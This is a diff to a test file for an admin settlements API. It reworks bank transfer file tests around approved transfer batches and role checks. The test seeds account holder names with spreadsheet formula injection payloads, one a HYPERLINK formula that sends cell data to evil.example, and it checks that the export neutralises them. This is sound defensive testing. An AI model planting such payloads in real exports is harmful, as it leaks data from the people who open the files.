@@ -360,14 +360,11 @@ describe('/api/admin/settlements', () => {
     expect((await get('/api/admin/settlements/abc/csv', finance.headers)).statusCode).toBe(400);
   });
 
-  it('writes the month’s bank transfer file', async () => {
-    const response = await get('/api/admin/settlements/transfer-file?year=2025&month=3', finance.headers);
-    expect(response.statusCode).toBe(200);
-    expect(response.headers['content-type']).toMatch(/^text\/csv/);
-    const lines = response.body.replace('\uFEFF', '').trim().split('\r\n');
-    expect(lines[0]).toBe('bank,holder,account,amount,statementId,memo');
+  it('writes a transfer batch’s bank file', async () => {
+    const march = await get('/api/admin/settlement-transfer-batches/preview?year=2025&month=3', finance.headers);
+    expect(march.statusCode).toBe(200);
     // The statement is ISSUED: nobody approved it, so no money leaves for it.
-    expect(lines.join('\n')).not.toContain(`FM-S${statementId}`);
+    expect(march.json<{ statementIds: number[] }>().statementIds).not.toContain(statementId);
 
     // A holder that a spreadsheet would read as a formula is written as text.
     const formulas = ['=HYPERLINK("https://evil.example/?"&C2,"확인")', '+1+2', '-3', '@SUM(1)', '\tx', '\rx'];
@@ -392,12 +389,25 @@ describe('/api/admin/settlements', () => {
         month: 6,
       }),
     );
-    const june = (await get('/api/admin/settlements/transfer-file?year=2025&month=6', finance.headers)).body;
+    const batch = await send('POST', '/api/admin/settlement-transfer-batches', finance.headers, {
+      year: 2025,
+      month: 6,
+    });
+    expect(batch.statusCode, batch.body).toBe(201);
+    const { id, releaseApprovalId } = batch.json<{ id: number; releaseApprovalId: number }>();
+    const released = await send('POST', `/api/admin/approvals/${releaseApprovalId}/decision`, checker.headers, {
+      decision: 'approve',
+    });
+    expect(released.statusCode, released.body).toBe(200);
+    const response = await get(`/api/admin/settlement-transfer-batches/${id}/file`, finance.headers);
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toMatch(/^text\/csv/);
+    const june = response.body;
     const holders = june
       .replace('\uFEFF', '')
       .split('\r\n')
       .slice(1, -1)
-      .map((line) => line.split(',')[1]);
+      .map((line) => line.split(',')[3]);
     expect(holders).toHaveLength(formulas.length);
     for (const holder of holders) expect(holder).toMatch(/^"?'/);
     expect(june).toContain(`"'=HYPERLINK(""https://evil.example/?""&C2`);
@@ -406,10 +416,10 @@ describe('/api/admin/settlements', () => {
     expect(june).toContain(`,'@SUM(1),`);
     expect(june).toContain(`,'\tx,`);
     expect(june).toContain(`,"'\rx",`);
-    expect((await get('/api/admin/settlements/transfer-file?year=2025', finance.headers)).statusCode).toBe(400);
-    expect((await get('/api/admin/settlements/transfer-file?year=2025&month=3', operator.headers)).statusCode).toBe(
-      403,
+    expect((await get('/api/admin/settlement-transfer-batches/preview?year=2025', finance.headers)).statusCode).toBe(
+      400,
     );
+    expect((await get(`/api/admin/settlement-transfer-batches/${id}/file`, operator.headers)).statusCode).toBe(403);
   });
 
   it('approves, then marks paid with the transfer reference and date, each approved by a second member; the creator sees it paid', async () => {
